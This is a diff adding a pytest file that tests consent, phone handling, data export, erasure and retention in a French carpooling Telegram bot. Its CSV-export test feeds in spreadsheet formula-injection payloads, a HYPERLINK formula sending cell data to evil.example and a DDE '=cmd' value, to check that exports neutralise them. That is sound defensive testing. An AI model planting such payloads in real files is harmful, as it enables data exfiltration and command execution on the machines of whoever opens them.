@@ -1,0 +1,407 @@
+"""End to end: consent, phones, /mesdonnees, /oublier, retention, safe exports, a need's history."""
+
+from __future__ import annotations
+
+import json
+from datetime import timedelta
+
+import pytest
+
+from bot.services import consents
+from tests.conftest import OPERATORS, RunningBot
+from tests.fakebot import FakeUser
+from tests.test_find_flow import describe_need, driver
+from tests.test_operators import team
+
+
+async def registered_by_phone(
+    operator: FakeUser, name: str, phone: str, *, need: bool = True, agreed: bool = True
+) -> None:
+    """/demande (a need from Cahors to Figeac on Tuesday) or /conducteur (Cahors → Figeac,
+    weekdays at 7:30), for someone who phoned; the phone is shown to matches."""
+    await operator.command("demande" if need else "conducteur")
+    await operator.send(name)
+    await operator.send(phone)
+    await operator.press("Oui")
+    if not agreed:
+        await operator.press("Non")
+        return
+    await operator.press("✅ Oui, la personne est d'accord")
+    await operator.send("Cahors")
+    await operator.send("Figeac")
+    if need:
+        await operator.send("mardi")
+        await operator.press("🏁 Arriver avant une heure")
+        await operator.send("9h")
+        await operator.press("🩺 Santé")
+        await operator.press("Aucun")
+        await operator.press("✅ Chercher un conducteur")
+        return
+    await operator.press("Lun → ven")
+    await operator.press("✔️ Valider les jours")
+    await operator.send("7h30")
+    await operator.press("Pas de retour")
+    await operator.press("3")
+    await operator.press("Passer")
+    await operator.press("✅ Enregistrer ce trajet")
+
+
+# 1. Consent where it is due.
+
+
+async def test_a_need_is_kept_only_once_its_person_agreed(
+    bot: RunningBot, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    marie = bot.fake.user(501, "Marie", last_name="Delpech")
+    await marie.command("chercher")
+    asked = marie.last()
+    assert "Avant de chercher un trajet" in asked.text and "/confidentialite" in asked.text
+    assert "Rien ne vous oblige à les donner" in asked.text  # purpose and special needs
+    assert "au plus tard 24 mois après" in asked.text
+    assert asked.buttons == ["✅ J'accepte", "Non merci"]
+    await marie.send("Cahors")  # typed instead of pressing: asked again, nothing lost
+    assert marie.last().buttons == ["✅ J'accepte", "Non merci"]
+    await marie.press("Non merci")
+    assert "rien n'est enregistré" in marie.last().text
+    assert await bot.rows("SELECT * FROM consents") == []
+    assert await bot.rows("SELECT * FROM conversation_states") == []
+
+    await describe_need(marie)  # asked again, and agreed this time
+    assert "J'ai trouvé des conducteurs" in marie.last().text or "équipe" in marie.last().text
+    [consent] = await bot.rows("SELECT * FROM consents")
+    assert consent["topic"] == "need" and consent["version"] == consents.VERSIONS["need"]
+    assert consent["given_at"].startswith("2026-11-23T09:00") and consent["confirmed_by"] is None
+    assert len(await bot.rows("SELECT * FROM needs")) == 1
+
+    await marie.command("chercher")  # agreed already: straight to the first question
+    assert "D'où partez-vous ?" in marie.last().text
+    await marie.command("annuler")
+
+    monkeypatch.setitem(consents.VERSIONS, "need", "2027-01-01")  # the text changed
+    await marie.command("chercher")
+    assert marie.last().buttons == ["✅ J'accepte", "Non merci"]
+    await marie.press("✅ J'accepte")
+    versions = [row["version"] for row in await bot.rows("SELECT * FROM consents ORDER BY id")]
+    assert versions == [consents.VERSIONS["need"].replace("2027-01-01", "2026-12-01"),
+                        "2027-01-01"]  # fmt: skip
+    bot.assert_clean()
+
+
+async def test_the_operator_confirms_a_caller_agreed_and_it_is_recorded(bot: RunningBot) -> None:
+    olga, _, _ = team(bot)
+    await registered_by_phone(olga, "Yvette Combes", "05 65 00 00 00", agreed=False)
+    assert "Rien n'est enregistré" in olga.last().text
+    assert await bot.rows("SELECT * FROM people WHERE telegram_user_id IS NULL") == []
+    assert await bot.rows("SELECT * FROM needs") == []
+
+    await registered_by_phone(olga, "Yvette Combes", "05 65 00 00 00")
+    [yvette] = await bot.rows("SELECT id FROM people WHERE display_name = 'Yvette Combes'")
+    [olga_row] = await bot.rows("SELECT id FROM people WHERE telegram_user_id = ?", olga.id)
+    [consent] = await bot.rows("SELECT * FROM consents")
+    assert consent["person_id"] == yvette["id"] and consent["confirmed_by"] == olga_row["id"]
+    assert consent["version"] == consents.VERSIONS["need"] and consent["given_at"]
+    bot.assert_clean()
+
+
+# 5. Phones, one way.
+
+
+async def test_phones_are_checked_stored_once_and_shown_the_french_way(bot: RunningBot) -> None:
+    olga, _, _ = team(bot)
+    await olga.command("demande")
+    await olga.send("Yvette Combes")
+    for wrong in ("12 34", "06 12 34 56", "pas de téléphone", "+33 6 12 34 56 78 90"):
+        await olga.send(wrong)
+        assert "n'est pas un numéro de téléphone" in olga.last().text
+    await olga.send("+33 (0)5 65 00 00 00")
+    assert "que le 05 65 00 00 00 soit donné" in olga.last().text
+    await olga.command("annuler")
+    await registered_by_phone(olga, "Yvette Combes", "+33565000000")
+    [person] = await bot.rows("SELECT phone FROM people WHERE display_name = 'Yvette Combes'")
+    assert person["phone"] == "+33565000000"
+    assert "Yvette Combes" in bot.operators.last().text
+    assert "05 65 00 00 00" in bot.operators.last().text
+    bot.assert_clean()
+
+
+async def test_a_driver_typed_in_by_the_team_who_later_shares_his_contact_is_one_person(
+    bot: RunningBot,
+) -> None:
+    olga, _, _ = team(bot)
+    await registered_by_phone(olga, "Roger Lafon", "06 12 34 56 78", need=False)
+    roger = bot.fake.user(511, "Roger", last_name="Lafon")
+    await roger.command("proposer")
+    await roger.press("✅ J'accepte")
+    await roger.send("Gramat")
+    await roger.send("Cahors")
+    await roger.press("Lun → ven")
+    await roger.press("✔️ Valider les jours")
+    await roger.send("8h")
+    await roger.press("Pas de retour")
+    await roger.press("2")
+    await roger.press("Passer")
+    await roger.press("📞 Aussi mon téléphone")
+    await roger.send_contact("33612345678")
+    await roger.press("Oui")
+    await roger.press("✅ Enregistrer ce trajet")
+
+    people = await bot.rows("SELECT id, telegram_user_id, phone FROM people WHERE phone != ''")
+    assert [(p["telegram_user_id"], p["phone"]) for p in people] == [(511, "+33612345678")]
+    trips = await bot.rows("SELECT driver_id, origin_name FROM trips ORDER BY id")
+    assert [t["origin_name"] for t in trips] == ["Cahors", "Gramat"]
+    assert {t["driver_id"] for t in trips} == {people[0]["id"]}
+    await roger.command("mestrajets")
+    listed = "\n".join(m.text for m in roger.messages()[-3:])
+    assert "Cahors (46) → Figeac (46)" in listed and "Gramat (46) → Cahors (46)" in listed
+    bot.assert_clean()
+
+
+# 2. /mesdonnees
+
+
+async def test_my_data_is_a_file_and_a_readable_summary(bot: RunningBot) -> None:
+    jean = await driver(bot, 521, "Jean", username="jean_m")
+    marie = bot.fake.user(522, "Marie", last_name="Delpech", username="marie_d")
+    await describe_need(marie)
+    await marie.press(marie.buttons()[0])
+    await jean.press("✅ J'accepte")
+    await marie.command("proposer")  # a draft in progress
+    await marie.send("Cahors")
+
+    await marie.command("mesdonnees")
+    summary, document = marie.messages()[-2:]
+    assert "Ce que Mobilot garde sur vous" in summary.text
+    assert "👤 Marie Delpech (@marie_d)" in summary.text
+    assert "🙋 Demandes (avec leur historique) : 1" in summary.text
+    assert "🤝 Mises en relation : 1" in summary.text
+    assert "✏️ Réponses en cours de saisie : 1" in summary.text
+    assert "Dernier accord : version du 2026-12-01" in summary.text
+    assert document.document is not None
+    assert document.document.filename == "mes-donnees-mobilot-2026-11-23.json"
+    data = json.loads(document.document.content)
+    assert data["profile"]["name"] == "Marie Delpech"
+    assert data["profile"]["telegram_username"] == "marie_d"
+    [need] = data["needs"]
+    assert need["purpose"] == "health" and need["destination_name"] == "Figeac"
+    assert [e["kind"] for e in need["history"]][:2] == ["created", "asked_driver"]
+    assert need["history"][0]["by_whom"] == "you"
+    assert "driver" in [e["by_whom"] for e in need["history"]]
+    [introduction] = data["introductions"]
+    assert introduction["you_were"] == "passenger" and introduction["with_whom"] == "Jean Martin"
+    assert introduction["status"] == "accepted"
+    [consent] = data["consents"]
+    assert consent["topic"] == "need" and consent["given_through"] == "you"
+    assert data["trips"] == []
+    assert "offer" in data["drafts"][0]  # /proposer, begun
+    # Nothing of Jean's but what Marie was given when he accepted.
+    assert "+33" not in document.document.content.decode() and "jean_m" not in json.dumps(data)
+
+    await jean.command("mydata")
+    text = jean.messages()[-2].text
+    assert "🚗 Trajets : 1" in text and "🤝 Mises en relation : 1" in text
+    bot.assert_clean()
+
+
+# 3. Forget me.
+
+
+async def test_forget_me_erases_everything_and_tells_the_driver(bot: RunningBot) -> None:
+    jean = await driver(bot, 531, "Jean", username="jean_m")
+    marie = bot.fake.user(532, "Marie", last_name="Delpech", username="marie_d")
+    await describe_need(marie)
+    await marie.press(marie.buttons()[0])
+    await jean.press("✅ J'accepte")
+    await marie.command("proposer")
+    await marie.send("Cahors")  # a draft in progress
+
+    await marie.command("oublier")
+    assert "Tout effacer ?" in marie.last().text
+    assert marie.last().buttons == ["🗑 Oui, tout effacer", "Non, garder"]
+    await marie.press("Non, garder")
+    assert marie.last().text == "Rien n'a été effacé."
+    assert len(await bot.rows("SELECT * FROM persisted_data")) == 1  # Marie's draft
+    mark = jean.mark()
+    await marie.command("forgetme")
+    await marie.press("🗑 Oui, tout effacer")
+    assert "Mobilot a effacé tout ce qui vous concerne" in marie.last().text
+    told = "\n".join(jean.texts_since(mark))
+    assert "Marie D. a annulé le trajet" in told  # his accepted ride is off
+
+    [person] = await bot.rows("SELECT * FROM people WHERE id = 2")
+    assert person["display_name"] == "" and person["telegram_user_id"] is None
+    assert person["telegram_username"] is None and person["phone"] is None
+    assert person["forgotten_at"]
+    [need] = await bot.rows("SELECT * FROM needs")
+    assert need["status"] == "cancelled" and need["special_needs"] == ""
+    assert need["purpose"] == "health"  # statistics keep what they count, without identity
+    assert await bot.rows("SELECT * FROM consents") == []
+    drafts = await bot.rows("SELECT key FROM persisted_data")
+    assert [d["key"] for d in drafts] == [str(jean.id)] or drafts == []
+    assert await bot.rows("SELECT * FROM conversation_states WHERE chat_key LIKE '%532%'") == []
+    # Of the messages exchanged with her, only the answer to /oublier remains (for a week).
+    kept = await bot.rows("SELECT params FROM outbox WHERE chat_id = 532")
+    assert [json.loads(k["params"]).get("text", "")[:20] for k in kept] == ["C'est fait : Mobilot"]
+
+    olga, _, _ = team(bot)
+    await olga.command("stats")
+    assert "🙋 Demandes : 1" in olga.last().text
+
+    await marie.command("mesdonnees")  # a stranger again
+    assert "🙋 Demandes (avec leur historique) : 0" in marie.messages()[-2].text
+    bot.assert_clean()
+
+
+async def test_a_driver_who_is_forgotten_frees_the_passenger_for_the_next_one(
+    bot: RunningBot,
+) -> None:
+    jean = await driver(bot, 541, "Jean", username="jean_m")
+    await driver(bot, 542, "Jeanne", time="7h40")
+    marie = bot.fake.user(543, "Marie", last_name="Delpech")
+    await describe_need(marie)
+    await marie.press("🚗 Demander à Jean M. (mar. 7h30)")
+    await jean.press("✅ J'accepte")
+    mark = marie.mark()
+    await jean.command("oublier")
+    await jean.press("🗑 Oui, tout effacer")
+    told = "\n".join(marie.texts_since(mark))
+    assert "Jeanne M." in told  # the next driver is offered
+    [trip] = await bot.rows("SELECT status, note FROM trips WHERE driver_id = 1")
+    assert trip["status"] == "deleted"
+    assert await bot.rows("SELECT * FROM trip_boxes WHERE trip_id = 1") == []
+    bot.assert_clean()
+
+
+async def test_the_team_erases_someone_who_phoned(bot: RunningBot) -> None:
+    olga, _, nadia = team(bot)
+    await registered_by_phone(olga, "Yvette Combes", "05 65 00 00 00")
+    await olga.command("oublier", "05 65 00 00 01")
+    assert "Personne n'a été inscrit par l'équipe avec le numéro" in olga.last().text
+    await olga.command("oublier", "05 65 00 00 00")
+    assert "Effacer tout ce qui concerne Yvette Combes (05 65 00 00 00)" in olga.last().text
+    await olga.press("🗑 Oui, tout effacer")
+    assert olga.last().text == "C'est fait : tout ce qui concernait Yvette Combes est effacé."
+    assert "Olga Bru a effacé, à sa demande, tout ce qui concernait Yvette Combes" in (
+        bot.operators.last().text
+    )
+    [yvette] = await bot.rows("SELECT * FROM people WHERE id = 2")
+    assert yvette["display_name"] == "" and yvette["phone"] is None
+    # Someone outside the team cannot: for them /oublier is about themselves.
+    await nadia.command("oublier", "06 12 34 56 78")
+    assert "Tout effacer ?" in nadia.last().text
+    await nadia.press_data("pv:caller:1")
+    assert nadia.callback_answers()[-1]["text"] == "Réservé à l'équipe locale de Mobilot."
+    bot.assert_clean()
+
+
+# 4. Retention.
+
+
+async def test_old_needs_lose_their_details_and_inactive_people_are_asked_then_forgotten(
+    bot: RunningBot,
+) -> None:
+    olga, _, _ = team(bot)
+    lina = bot.fake.user(551, "Lina", last_name="Vern")
+    await describe_need(lina, origin="Rocamadour")
+    await bot.operators.press(olga, "🔒 Clore")
+    await bot.operators.press(olga, "✅ Résolue autrement")
+    await olga.command("stats")  # Olga keeps using the bot
+    bot._set_time(bot.clock.current + timedelta(days=365 * 2 + 30))
+    await olga.command("stats")
+    await bot.tick()
+    [need] = await bot.rows("SELECT * FROM needs")
+    assert need["anonymised_at"] and need["purpose"] == "health"
+    assert await bot.rows("SELECT detail FROM need_events WHERE detail != ''") == []
+
+    bot._set_time(bot.clock.current + timedelta(days=365 + 10))
+    mark = lina.mark()
+    await olga.command("stats")
+    await bot.tick()
+    [question] = lina.texts_since(mark)
+    assert "Vous n'avez pas utilisé Mobilot depuis longtemps" in question
+    assert lina.last().buttons == ["✅ Je reste", "🗑 Tout effacer"]
+    await bot.later(days=31)
+    [person] = await bot.rows("SELECT display_name, forgotten_at FROM people WHERE id = 1")
+    assert person["forgotten_at"] and person["display_name"] == ""
+    [olga_row] = await bot.rows("SELECT forgotten_at FROM people WHERE telegram_user_id = ?",
+                                olga.id)  # fmt: skip
+    assert olga_row["forgotten_at"] is None
+    bot.assert_clean()
+
+
+async def test_someone_who_answers_stays(bot: RunningBot) -> None:
+    lina = bot.fake.user(561, "Lina", last_name="Vern")
+    await lina.command("start")
+    bot._set_time(bot.clock.current + timedelta(days=365 * 3 + 30))
+    await bot.tick()
+    await lina.press("✅ Je reste")
+    assert lina.last().text == "Merci ! Votre compte est gardé."
+    await bot.later(days=40)
+    [person] = await bot.rows("SELECT forgotten_at FROM people")
+    assert person["forgotten_at"] is None
+    bot.assert_clean()
+
+
+# 7. Exports the team can open safely.
+
+
+async def test_exports_neutralise_formulas(bot: RunningBot) -> None:
+    olga, _, _ = team(bot)
+    evil = bot.fake.user(571, '=HYPERLINK("http://evil.example/?x="&A1,"click")')
+    await evil.command("proposer")
+    await evil.press("✅ J'accepte")
+    await evil.send("Cahors")
+    await evil.send("Figeac")
+    await evil.press("Lun → ven")
+    await evil.press("✔️ Valider les jours")
+    await evil.send("7h30")
+    await evil.press("Pas de retour")
+    await evil.press("3")
+    await evil.send("=cmd|' /C calc'!A0")
+    await evil.press("Telegram seulement")
+    await evil.press("✅ Enregistrer ce trajet")
+    for name in ("+plus", "-minus", "@at", "\tTab"):
+        await bot.rows(
+            "INSERT INTO people (display_name, created_at, updated_at) VALUES (?, '', '')", name
+        )
+    await olga.command("export")
+    trips = next(
+        m for m in bot.operators.messages() if m.document and "trips" in m.document.filename
+    )
+    content = trips.document.content.decode("utf-8-sig")
+    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in content
+    assert "'=cmd|' /C calc'!A0" in content
+    assert ",=" not in content and '"=' not in content
+    assert "lun, mar, mer, jeu, ven" in content and ",actif," in content
+    from bot.services.reports import csv_bytes
+
+    cells = csv_bytes([{"a": v} for v in ("+plus", "-minus", "@at", "\tTab", "\rCR", "ok", -3)])
+    assert cells.decode("utf-8-sig").split("\r\n")[1:-1] == [
+        "'+plus", "'-minus", "'@at", "'\tTab", "\"'\rCR\"", "ok", "-3",
+    ]  # fmt: skip
+    bot.assert_clean()
+
+
+# 8. A need's history, under its post.
+
+
+async def test_a_needs_history_is_readable_in_the_group(bot: RunningBot) -> None:
+    olga, omar, nadia = team(bot)
+    await driver(bot, 581, "Jean", username="jean_m")
+    lina = bot.fake.user(582, "Lina", last_name="Vern")
+    await describe_need(lina, origin="Lacapelle-Marival")
+    post = bot.operators.last()
+    await bot.operators.press(olga, "🙋 Je m'en occupe", message=post)
+    bot._set_time(bot.clock.current + timedelta(minutes=5))
+    await bot.operators.press(olga, "🔒 Clore", message=post)
+    await bot.operators.press(olga, "❌ Non résolue : pas de conducteur", message=post)
+    await bot.operators.press(omar, "📜 Historique", message=post)
+    diary = bot.operators.last().text
+    assert diary.startswith("📜 Historique de la demande n° 1")
+    assert "lundi 23 novembre, 10h00 — demande enregistrée (Lina Vern)" in diary
+    assert "10h00 — prise en charge (Olga Bru)" in diary
+    assert "10h05 — close (Olga Bru)" in diary
+    await bot.operators.press_data(nadia, "op:1:history", message=post)
+    assert nadia.callback_answers()[-1]["text"] == "Réservé à l'équipe locale de Mobilot."
+    assert bot.operators.last().text == diary
+    assert OPERATORS
+    bot.assert_clean()
